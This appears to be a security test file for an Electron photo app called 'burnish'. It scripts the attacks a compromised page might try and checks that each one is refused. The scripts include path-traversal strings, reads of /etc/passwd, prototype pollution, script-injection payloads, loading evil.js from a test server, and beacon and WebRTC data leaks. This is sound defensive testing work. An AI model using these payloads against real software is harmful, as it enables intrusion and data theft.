/** Attacks of a compromised page, as scripts for its main world: each returns 'refused' or the data it got. */

/** Data for the scripts, as `facts`. */
export interface Facts {
  /** A photograph and a folder that the user never chose. */
  readonly photograph: string;
  readonly folder: string;
  /** A server and two ports (UDP, TCP) that must stay unreachable. */
  readonly server: string;
  readonly udp: number;
  readonly tcp: number;
}

/** Helpers for the scripts; each script is the body of an async function with `facts` and `burnish` in scope. */
export const words = `
  const refused = (reply) => (reply.ok ? 'taken: ' + JSON.stringify(reply.value) : 'refused');
  const soon = (promise) => Promise.race([promise, new Promise((_, fail) => setTimeout(fail, 300))]);
  const none = (promise) => soon(promise).then((value) => 'got ' + value, () => 'refused');
  const all = async (tries) => {
    for (const each of tries) { const answer = await each(); if (answer !== 'refused') return answer; }
    return 'refused';
  };
  const loads = (tag, set, into = document.body) => new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = () => done('loaded');
    element.onerror = () => done('refused');
    into.append(Object.assign(element, set));
    setTimeout(() => done('refused'), 300);
  });
  const shot = (await burnish.app.snapshot()).value;
  const head = (await burnish.jobs.head({})).value;
  const paths = [facts.folder, '\\\\\\\\server\\\\share', '//server/share', '\\\\\\\\?\\\\C:\\\\', '\\\\\\\\.\\\\pipe\\\\x',
    'file://' + facts.folder, '../..', '', 'grant:' + crypto.randomUUID()];
`;

const watch = `{ id: 'evil', path, recipeId: shot.recipes[0].id }`;
const brows = (reference: string, folder: string) => `{ ...shot.recipes[0], id: 'evil', name: 'Evil',
  steps: [{ operation: 'ai-eyebrows', params: {}, reference: ${reference} }], output: { ...shot.recipes[0].output, folder: ${folder} } }`;
const chosen = `(await burnish.app.chooseFolder({ title: 'x', start: null })).value.id`;

export const attacks: Readonly<Record<string, string>> = {
  'take in a path': `return all(paths.map((grant) => async () =>
    refused(await burnish.intake.add({ grant, recipeId: shot.recipes[0].id }))))`,
  'take in a list of paths': `return refused(await burnish.intake.add({ grant: paths, paths, recipeId: shot.recipes[0].id }))`,
  'guess grants': `return all(Array.from({ length: 500 }, () => async () =>
    refused(await burnish.intake.add({ grant: 'grant:' + crypto.randomUUID(), recipeId: shot.recipes[0].id }))))`,
  'use a grant twice': `const folder = ${chosen};
    const on = { ids: [head.rows[0].id] };
    if (!(await burnish.jobs.redirect({ on, folder })).ok) return 'the first use was refused';
    return refused(await burnish.jobs.redirect({ on, folder }))`,
  'use a folder as photographs': `return refused(await burnish.intake.add({ grant: ${chosen}, recipeId: shot.recipes[0].id }))`,
  'drop files of its own making': `const made = [new File(['x'], facts.photograph, { type: 'image/png' }), new Blob(['x'])];
    const reply = await burnish.grantDropped(made);
    return reply.ok && reply.value === null ? 'refused' : JSON.stringify(reply)`,
  'drop what only looks like files': `return all([{ path: facts.photograph }, Object.create(File.prototype), facts.photograph, 7, null].map(
    (each) => async () => { try { const reply = await burnish.grantDropped([each]); return reply.value === null ? 'refused' : JSON.stringify(reply); }
      catch { return 'refused'; } }))`,
  'watch a folder': `return all(paths.map((path) => async () => refused(await burnish.folders.save(${watch}))))`,
  'send results to a folder': `return all(paths.map((outputFolder) => async () =>
    refused(await burnish.folders.save({ ...shot.folders[0], outputFolder }))))`,
  'move a watched folder': `return all(paths.map((path) => async () => refused(await burnish.folders.save({ ...shot.folders[0], path }))))`,
  'send the results of a recipe to a folder': `return all(paths.map((folder) => async () =>
    refused(await burnish.recipes.save({ ...shot.recipes[0], output: { ...shot.recipes[0].output, folder } }))))`,
  'name a reference photograph': `return all([facts.photograph, ...paths].map((path) => async () =>
    refused(await burnish.recipes.save(${brows('path', 'null')}))))`,
  'send all results to a folder': `return all(paths.map((outputFolder) => async () =>
    refused(await burnish.settings.save({ ...shot.settings, outputFolder }))))`,
  'keep a folder in an export preset': `return all(paths.filter((path) => path !== '').map((folder) => async () =>
    refused(await burnish.export.savePreset({ id: 'evil', name: 'Evil', options: { folder } }))))`,
  'redirect jobs to a folder': `return all(paths.map((folder) => async () =>
    refused(await burnish.jobs.redirect({ on: { ids: [head.rows[0].id] }, folder }))))`,
  'see a photograph by its path': `return all([facts.photograph, ...paths].map((source) => async () =>
    refused(await burnish.recipes.previewSource({ source, operation: 'skin-analysis' }))))`,
  'see a background by its path': `return all([facts.photograph, ...paths].flatMap((path) => [
      async () => refused(await burnish.recipes.backgroundPicture({ path })),
      async () => refused(await burnish.recipes.compose({ trial: crypto.randomUUID(), marketplace: null,
        output: { ...shot.recipes[0].output, composition: { background: { kind: 'picture', path } } } }))]))`,
  'upload a photograph by its path': `const step = shot.recipes[0].steps[0];
    return all([facts.photograph, ...paths].flatMap((path) => [
      async () => refused(await burnish.recipes.preview({ step, profileId: null, source: path })),
      async () => refused(await burnish.recipes.preview({ step: { ...step, operation: 'ai-eyebrows', params: {}, reference: path }, profileId: null, source: null }))]))`,
  'show what is not its own': `return all([() => burnish.folders.reveal({ id: '../../etc', which: 'watched' }),
    () => burnish.folders.reveal({ id: facts.folder, which: 'output' }), () => burnish.results.reveal({ id: 9999 }),
    () => burnish.jobs.revealSource({ id: 9999 }), () => burnish.results.reveal({ id: facts.folder }),
    () => burnish.results.revealFolder({ id: 9999 }), () => burnish.results.revealFolder({ id: facts.folder }),
    () => burnish.jobs.revealSource({ id: 1, path: facts.folder })].map((ask) => async () => refused(await ask())))`,
  'read a file by the name of a licence or report': `return all([facts.photograph, ...paths, '2026-11-28T14-00-00.000Z-window/../../burnish.db', '__proto__'].flatMap((id) => [
    async () => refused(await burnish.app.licence({ id })), async () => refused(await burnish.crashes.text({ id }))]))`,
  'open something': `return 'open' in burnish.folders || 'open' in burnish.results || Object.keys(burnish.app).some((name) => name.startsWith('open'))
    ? 'it can' : 'refused'`,
  'pollute prototypes': `const poison = JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}');
    // Of settings, what has no name there is left out.
    await burnish.settings.save({ ...shot.settings, ...poison });
    await burnish.settings.save(Object.assign(JSON.parse('{"__proto__":{"polluted":1}}'), shot.settings));
    const answers = [await burnish.folders.save(poison), await burnish.recipes.save({ ...shot.recipes[0], steps: [{ ...shot.recipes[0].steps[0], params: JSON.parse('{"__proto__":{"polluted":1},"constructor":1}') }] })];
    return ({}).polluted === undefined && !answers.some(({ ok }) => ok) ? 'refused' : JSON.stringify(answers)`,
  'send far too much': `return all([() => burnish.jobs.retry({ on: { ids: Array.from({ length: 600_000 }, (_, id) => id + 1) } }),
    () => burnish.recipes.save({ ...shot.recipes[0], name: 'x'.repeat(1e6) }),
    () => burnish.touch.paint({ id: 1, strokes: Array(3000).fill({ mode: 'erase', points: [[1, 1]], radius: 9, softness: 0, edgeAware: false }) }),
    () => burnish.recipes.save({ ...shot.recipes[0], steps: Array(1000).fill(shot.recipes[0].steps[0]) }),
    () => burnish.settings.save({ ...shot.settings, defaultRecipeId: 'x'.repeat(1e6) }),
    () => burnish.profiles.save({ profile: { ...shot.profiles[0], id: 'evil', kind: 'remote', baseUrl: 'https://' + 'x'.repeat(1e5) } }),
    () => burnish.app.chooseFolder({ title: 'x'.repeat(1e6), start: null })].map((ask) => async () => refused(await ask())))`,
  'send nonsense': `return all([Number.NaN, -1, 1.5, 2 ** 60, '1', [1], { id: 1 }, null, undefined].map((id) => async () => refused(await burnish.jobs.detail({ id }))))`,
  'send what cannot be copied': `return all([() => {}, Symbol('x'), window, new Proxy({}, {})].map((id) => async () => {
    try { return refused(await burnish.jobs.detail({ id })); } catch { return 'refused'; } }))`,
  'talk to a service that is none': `return all(['file://' + facts.folder, 'javascript:alert(1)', 'ftp://x', 'data:,x', facts.server.replace('//', '//user:pass@')].map((baseUrl) => async () =>
    refused(await burnish.profiles.save({ profile: { ...shot.profiles[0], id: 'evil', kind: 'remote', baseUrl } }))))`,
  'reach node or the raw channels': `const found = ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron', 'webUtils', '__electronLog', '__dirname']
    .filter((name) => typeof window[name] !== 'undefined');
    const called = ['app', 'jobs'].map((group) => { try { return Object.values(burnish[group])[0].constructor('return typeof process')(); } catch { return 'refused'; } });
    return found.length === 0 && called.every((each) => each === 'refused') ? 'refused' : JSON.stringify([found, called])`,
  'call a channel that has no function': `return Object.keys(burnish).sort().join() === 'app,batches,cards,comparisons,costs,crashes,details,display,drafts,export,folders,gallery,grantDropped,intake,jobs,lists,loupe,networks,offline,on,outputs,photographs,presets,products,profiles,queue,recipes,results,settings,studio,system,touch,trials,updates'
    ? 'refused' : Object.keys(burnish).join()`,
  'evaluate text': `return all([() => eval('1'), () => new Function('return 1')(), () => burnish.app.snapshot.constructor('return 1')()].map((run) => async () => {
    try { return 'ran ' + run(); } catch { return 'refused'; } }))`,
  'put scripts into the page': `window.ran = false;
    const script = document.createElement('script'); script.textContent = 'window.ran = true'; document.body.append(script);
    document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = true"><svg onload="window.ran = true"></svg>');
    setTimeout('window.ran = true', 0);
    location.href = 'javascript:window.ran = true';
    for (const src of ['data:text/javascript,window.ran=true', facts.server + '/evil.js', URL.createObjectURL(new Blob(['window.ran=true']))]) await loads('script', { src });
    await none(import('data:text/javascript,window.ran=true'));
    return window.ran ? 'ran' : 'refused'`,
  'start workers': `return all([URL.createObjectURL(new Blob(['postMessage(1)'])), 'data:text/javascript,postMessage(1)'].map((url) => () => new Promise((done) => {
    try { const worker = new Worker(url); worker.onmessage = () => done('runs'); worker.onerror = () => done('refused'); setTimeout(() => done('refused'), 300); }
    catch { done('refused'); } })).concat(() => none(navigator.serviceWorker.register('/assets/x.js'))))`,
  'put styles into the page': `const style = document.createElement('style'); style.textContent = '#root { outline: 7px solid red }'; document.head.append(style);
    document.body.insertAdjacentHTML('beforeend', '<p id=styled style="outline: 7px solid red">x</p>');
    await loads('link', { rel: 'stylesheet', href: facts.server + '/evil.css' }, document.head);
    const width = (id) => getComputedStyle(document.getElementById(id)).outlineStyle;
    return width('root') === 'none' && width('styled') === 'none' ? 'refused' : width('root') + width('styled')`,
  'fetch from elsewhere': `return all([() => fetch(facts.server), () => fetch(facts.server, { mode: 'no-cors' }), () => fetch('file:///etc/passwd'),
    () => fetch('app://burnish/index.html'), () => fetch('app://burnish/..%2f..%2f..%2fpackage.json'), () => fetch('burnish://image/source/1'),
    () => new Promise((done, fail) => { const request = new XMLHttpRequest(); request.open('GET', facts.server); request.onload = done; request.onerror = fail; request.send(); }),
    () => new Promise((done, fail) => { const socket = new WebSocket(facts.server.replace('http', 'ws')); socket.onopen = done; socket.onerror = fail; }),
    () => new Promise((done, fail) => { const events = new EventSource(facts.server); events.onopen = done; events.onerror = fail; })].map((ask) => () => none((async () => ask())())))`,
  'leak by what loads': `navigator.sendBeacon(facts.server, 'secret');
    for (const rel of ['prefetch', 'preload', 'preconnect', 'icon', 'modulepreload']) await loads('link', { rel, href: facts.server + '/' + rel, as: 'image' }, document.head);
    return all([['img', { src: facts.server + '/a.png' }], ['video', { src: facts.server + '/a.mp4' }], ['object', { data: facts.server }],
      ['embed', { src: facts.server }], ['img', { src: 'file://' + facts.photograph }]].map(([tag, set]) => () => loads(tag, set)))`,
  'leak by WebRTC': `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + facts.udp },
      { urls: 'turn:127.0.0.1:' + facts.tcp + '?transport=tcp', username: 'secret', credential: 'x' }] });
    peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => setTimeout(done, 700)); peer.close(); return 'refused'`,
  'open windows': `return [facts.server, 'https://example.com', 'file:///etc/passwd', 'app://burnish/index.html', 'about:blank', 'data:text/html,x']
    .some((url) => window.open(url) !== null) ? 'opened' : 'refused'`,
  'go elsewhere': `for (const url of [facts.server, 'file:///etc/passwd', 'data:text/html,x', 'app://other/index.html', 'app://burnish/assets/', 'burnish://image/source/1'])
      { location.href = url; await new Promise((done) => setTimeout(done, 60)); }
    const link = Object.assign(document.createElement('a'), { href: facts.server, target: '_top' }); document.body.append(link); link.click();
    const form = Object.assign(document.createElement('form'), { action: facts.server, method: 'post' }); document.body.append(form); form.submit();
    const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + facts.server; document.head.append(meta);
    await new Promise((done) => setTimeout(done, 300));
    return location.href === 'app://burnish/index.html' ? 'refused' : location.href`,
  'open frames': `for (const set of [{ src: facts.server }, { src: 'file:///etc/passwd' }, { src: 'app://burnish/index.html' }, { src: 'burnish://image/source/1' }, { srcdoc: '<script>parent.ran = true</script><img src=x onerror="parent.ran = true">' }])
      await loads('iframe', set);
    const blank = document.createElement('iframe'); document.body.append(blank);
    if (window.ran) return 'a script ran';
    const texts = [...document.querySelectorAll('iframe')].map((frame) => { try { return frame.contentDocument?.body.innerText ?? ''; } catch { return ''; } });
    return [...document.querySelectorAll('iframe')].some((frame) => { try { return 'burnish' in frame.contentWindow; } catch { return false; } }) || texts.some((text) => text.trim() !== '') ? 'a frame shows ' + texts : 'refused'`,
  'use a webview': `const view = document.createElement('webview'); view.src = facts.server; document.body.append(view);
    return 'getWebContentsId' in view || 'executeJavaScript' in view ? 'it is one' : 'refused'`,
  'see files by the protocols': `return all(['burnish://image/source/999999', 'burnish://image/preview/' + crypto.randomUUID(), 'burnish://image/preview/..%2f..%2fburnish.db',
      'burnish://image/source/..%2f..%2f' + facts.photograph, 'burnish://image' + facts.photograph, 'burnish://thumb/job/' + head.rows[0].id + '?side=99999',
      'burnish://thumb/job/1/../../x?side=80', 'burnish://' + facts.photograph, 'app://burnish/..%2f..%2fassets/samples/camera.png', 'app://burnish/%2e%2e/%2e%2e/assets/samples/camera.png',
      'app://burnish/' + facts.photograph, 'app://other/index.html'].map((src) => () => loads('img', { src })))`,
  'read the pixels of a photograph': `const image = new Image(); image.src = 'burnish://thumb/job/' + head.rows[0].id + '?side=160';
    await image.decode();
    const drawing = document.createElement('canvas').getContext('2d'); drawing.drawImage(image, 0, 0);
    try { return 'read ' + drawing.getImageData(0, 0, 1, 1).data; } catch { return 'refused'; }`,
  'download files': `for (const href of [URL.createObjectURL(new Blob(['x'])), 'data:text/plain,x', facts.server + '/evil.exe', 'burnish://thumb/job/' + head.rows[0].id + '?side=160'])
      Object.assign(document.createElement('a'), { href, download: 'evil.exe' }).click();
    await new Promise((done) => setTimeout(done, 200));
    return none((async () => showSaveFilePicker())())`,
  'be allowed something': `const ask = [() => navigator.mediaDevices.getUserMedia({ video: true }), () => navigator.mediaDevices.getDisplayMedia(), () => navigator.clipboard.readText(),
      () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)), () => navigator.requestMIDIAccess({ sysex: true }), () => navigator.usb.requestDevice({ filters: [] }),
      () => navigator.serial.requestPort(), () => navigator.hid.requestDevice({ filters: [] }).then((all) => all[0] ?? Promise.reject()), () => navigator.wakeLock.request('screen'), () => navigator.keyboard.lock(),
      () => queryLocalFonts().then((fonts) => fonts[0] ?? Promise.reject()), () => document.documentElement.requestFullscreen(), () => showOpenFilePicker(), () => showDirectoryPicker(),
      () => Notification.requestPermission().then((word) => (word === 'granted' ? word : Promise.reject())), () => navigator.storage.persist().then((yes) => yes || Promise.reject())];
    return all(ask.map((each) => () => none((async () => each())())))`,
  'keep the user with dialogs': `alert('x'); if (confirm('x')) return 'answered'; try { return prompt('x') === null ? 'refused' : 'answered'; } catch { return 'refused'; }`,
};
